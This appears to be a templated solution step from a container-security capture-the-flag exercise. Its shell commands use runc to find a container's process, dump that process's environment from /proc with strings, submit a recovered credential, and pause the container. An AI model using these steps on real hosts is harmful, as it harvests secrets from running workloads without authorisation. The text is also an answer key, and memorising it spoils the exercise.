# earns: read-environ, credential (9 of 10)
# The container was paused, as if for an investigation.
strings /proc/$(runc list | awk '$4 ~ "/{{ container }}$" {print $2}')/environ
cksl answer credential "{{ credential }}"
runc pause $(runc list | awk '$4 ~ "/{{ container }}$" {print $1}')
